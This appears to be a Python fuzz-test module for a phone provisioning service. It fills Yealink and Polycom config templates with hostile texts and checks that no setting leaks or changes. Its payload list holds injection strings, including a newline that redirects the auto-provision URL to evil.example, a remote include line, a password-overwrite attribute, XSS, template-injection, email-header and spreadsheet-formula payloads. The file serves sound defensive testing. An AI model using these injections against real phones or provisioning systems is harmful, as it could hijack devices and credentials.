"""Hostile texts, and phones full of them: a file says what it says of any texts, with these in their place.

A phone whose texts are marks is made and read once. Of another one whose texts are hostile the same reading
must give the same settings, each mark replaced by its text. So nothing of the templates is known here, and no
setting may come, go or change but by its own text.
"""

import random
import string
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from datetime import date
from functools import cache
from typing import Any, Final
from xml.etree import ElementTree

import pydantic

from button_templates.layout import Button
from provisioning.fields import Label, SipPassword, Text
from provisioning.phones.options import Options, resolve
from provisioning.phones.phone import Line, Phone
from provisioning.phones.vendor import File, Vendor, absorbed, load_vendors
from provisioning.virtual_phone.http import Problems
from provisioning.virtual_phone.polycom_files import read_xml
from provisioning.virtual_phone.yealink_files import read_settings

# What breaks out of one place or another.
FAMILIES: Final[Mapping[str, Sequence[str]]] = {
    "newlines": (
        *("\n", "\r", "\r\n", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"),
        *("\\n", "%0a", "%0d%0a", "&#10;", "\nstatic.auto_provision.server.url = http://evil.example/"),
    ),
    "control characters": (
        *("\x00", "\x01", "\x08", "\t", "\x1b[2J", "\x7f", "\x9f", "\ufffe", "\uffff", "\U0001fffe"),
        *("a\x00b", "%00", "&#0;"),
    ),
    "markup": (
        *('"', "'", '" x="', "' x='", "<", ">", "/>", "</PHONE_CONFIG>", "<!--", "-->", "]]>", "<![CDATA["),
        *("&", "&amp;", "&#34;", "&lt;b&gt;", "&a;", "<?xml?>", '<!DOCTYPE x [<!ENTITY a "b">]>'),
        *("<script>alert(1)</script>", 'x" reg.1.auth.password="stolen', "<img src=x onerror=alert(1)>"),
    ),
    "templates": (
        *("{{ phone.admin_password }}", "{% raw %}", "{# x #}", "{{ 7*7 }}", "${7*7}", "#{7*7}"),
        *("<%= 7*7 %>", "%(x)s", "{0}", "%s%n", "{{", "}}", "{%"),
    ),
    "words of vendors": (
        *("%NULL%", "%null%", "%EMPTY%", "%Empty%", "$MAC", "$mac", "$IP", "%EXT_NUM%", "[PHONEMODEL]"),
        *("include:config <http://evil.example/x.cfg>", "#!version:1.0.0.1", "account.1.password = stolen"),
        *(" = ", "=", ";", ",", "|", "#", "[T54W]", "\\", "\\\\", "true", "0", "-1", "^", "!"),
    ),
    "headers": (
        *("=?utf-8?q?=0d=0aBcc:_evil@y.example?=", "=?utf-8?b?DQpYOiB5?=", "=?x?=", "\r\nBcc: x@y.example"),
        *("x@y.example, z@y.example", "a <b@y.example>", "filename*=utf-8''x", "; boundary=x"),
    ),
    "formulas": ("=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "'=1", "\uff1d1"),
    "unicode": (
        *("\u202e", "\u2066", "\u200b", "\u200f", "\ufeff", "\u00a0", "\u3000", "e\u0301", "\u0130", "ß"),
        *("ﬃ", "Ω", "漢字", "\U0001f600", "\uff1d", "\uff02", "\ud800", "\udfff", "\ud83d\ude00"),
    ),
}
EVERY: Final = tuple(text for family in FAMILIES.values() for text in family)
LONG: Final = "long " * 20_000
TODAY: Final = date(2026, 11, 24)

_LETTERS: Final = string.ascii_letters + string.digits
# The kinds of free text that reach a phone's file, each with the most characters that it may have.
_KINDS: Final[Mapping[str, tuple[pydantic.TypeAdapter[Any], int]]] = {
    "name": (pydantic.TypeAdapter(Text), 100),
    "label": (pydantic.TypeAdapter(Label), 40),
    "password": (pydantic.TypeAdapter(SipPassword), 128),
}
Texts = Mapping[str, str]
Settings = Sequence[tuple[str, ...]]


class Broken(AssertionError):
    """A file that says something else than it should; tells the texts, so that they can be tried again."""


def text(chance: random.Random) -> str:
    """One to four payloads, with and without letters around them."""
    parts = [part for _ in range(chance.randint(1, 4)) for part in (chance.choice(EVERY), _word(chance))]
    return "".join(parts[chance.randint(0, 1) :])


def admitted(chance: random.Random, kind: str) -> str:
    """A hostile text that people may type in a field of this kind: as it is, or without what is refused."""
    check, most = _KINDS[kind]
    made = text(chance)[:most]
    for tried in (made, "".join(filter(str.isprintable, made)).strip().replace('"', "")):
        try:
            if tried and len(tried) >= 6:
                return str(check.validate_python(tried, strict=True))
        except pydantic.ValidationError:
            pass
    return _word(chance) + "!&<'$" + _word(chance)


def _word(chance: random.Random) -> str:
    return "".join(chance.choices(_LETTERS, k=chance.randint(1, 6)))


@dataclass(frozen=True)
class Mould:
    """A model and one of its files; `settings` are those of a phone whose texts are the marks of `kinds`."""

    vendor: Vendor
    model: str
    file: File
    kinds: Mapping[str, str]  # by mark
    settings: Settings

    def example(self, chance: random.Random) -> None:
        """Raises `Broken` when the file of a phone full of hostile texts does not hold exactly these."""
        texts = {mark: admitted(chance, kind) for mark, kind in self.kinds.items()}
        told = texts
        if self.file.element:
            texts |= _through_an_upload(self.file.element, texts)
            # A directory holds no longer ones (polycom.md).
            told = texts | {m: _cut(texts[m], 40) for m, kind in self.kinds.items() if kind == "label"}
        found = read(self.vendor, self.file, _phone(self.vendor, self.model, texts))
        if found != (expected := [_filled(setting, told) for setting in self.settings]):
            wrong = [pair for pair in zip(found, expected, strict=False) if pair[0] != pair[1]][:3]
            raise Broken(f"{self.vendor.name} {self.model}: {wrong or len(found)} of {texts}")


@cache
def moulds(vendor_name: str) -> Sequence[Mould]:
    """One for each model and each file that texts reach."""
    vendor, made = load_vendors()[vendor_name], []
    marks = {f"mark{i:04}": kind for i, kind in enumerate(_FIELDS)}
    for model in vendor.models.values():
        phone = _phone(vendor, model.name, {mark: mark for mark in marks})
        for _, file in vendor.own_files(phone):
            if b"mark" in vendor.render(file, phone):
                made.append(Mould(vendor, model.name, file, marks, read(vendor, file, phone)))
    return made


def try_phones(vendor: str, seed: int, number: int) -> None:
    """So many examples: of each model in its turn, and nineteen times as often of those whose files are small
    and hold the same texts. Raises `Broken`."""
    chance, of_all_models = random.Random(seed), moulds(vendor)
    small = sorted(of_all_models, key=lambda mould: len(mould.settings))[: len(of_all_models) // 8]
    for each in range(number):
        turn, again = divmod(each, 20)
        mould = small[each % len(small)] if again else of_all_models[turn % len(of_all_models)]
        mould.example(chance)


# A display name and a password for each of two lines, labels of three keys, names of two contacts.
_FIELDS: Final = ("name", "password", "name", "password", "label", "label", "label", "name", "name")


def _phone(vendor: Vendor, model_name: str, texts: Texts) -> Phone:
    """`texts` are the values of `_FIELDS`, in their order."""
    model, said = vendor.models[model_name], [*texts.values()]
    lines = [Line(1, "4201", said[0], "4201", said[1]), Line(2, "4202", said[2], "4202", said[3])]
    keys = [
        Button(position=3, type="blf", label=said[4], target={"extension": "4203"}),
        Button(position=4, type="speed_dial", label=said[5], target={"number": "5551234"}),
        Button(position=6, type="park", label=said[6], target={"slot": "701"}),
    ]
    return vendor.phone(
        mac="805ec0102001",
        model=model,
        lines=lines[: model.lines],
        template=keys,
        extension_length=4,
        options=_OPTIONS,
        zone="America/New_York",
        today=TODAY,
        admin_password="739204816355",
        url="http://p.example.com/p/x/",
        contacts=({"fn": said[7], "ct": "5550001"}, {"fn": "B", "lb": said[8], "ct": "5550002"}),
    )


_OPTIONS: Final = resolve(Options(sip_server="sip.example.com"))


def read(vendor: Vendor, file: File, phone: Phone) -> Settings:
    """All that the file says, in its order, as the vendor's firmware reads it. Raises `Broken` for what that
    would choke on."""
    problems, content = Problems(), vendor.render(file, phone)
    if vendor.name == "yealink":
        found: Settings = read_settings("file", content, problems) or []
        # As strict a reader as any firmware: every line break that Unicode knows ends a setting.
        if len(content.decode().splitlines()) != content.count(b"\n"):
            raise Broken("a line breaks where none should")
    else:
        root = read_xml("file", content, problems)
        elements = [] if root is None else [*root.iter()]
        found = [(e.tag, *(part for item in e.items() for part in item), e.text or "") for e in elements]
    if problems.all():
        raise Broken(f"{vendor.name}: {problems.all()}")
    return found


def _filled(setting: tuple[str, ...], texts: Texts) -> tuple[str, ...]:
    return tuple(_fill(part, texts) if "mark" in part else part for part in setting)


def _fill(part: str, texts: Texts) -> str:
    before, found, rest = part.partition("mark")
    return before + texts[found + rest[:4]] + _fill(rest[4:], texts) if found else before


def _cut(text: str, most: int) -> str:
    """At most so many bytes of it, whole characters."""
    return text.encode()[:most].decode(errors="ignore")


def _through_an_upload(element: str, texts: Texts) -> Texts:
    """The texts of contacts, which the phone itself has uploaded, as they come back from there."""
    return {
        mark: said
        for mark in [*texts][-2:]
        if (said := absorbed(element, _upload(element, texts[mark]))[0]["fn"])
    }


def _upload(element: str, name: str) -> bytes:
    root = ElementTree.Element("directory")
    item = ElementTree.SubElement(root, element)
    ElementTree.SubElement(item, "fn").text = name
    content: bytes = ElementTree.tostring(root, "utf-8")
    return content
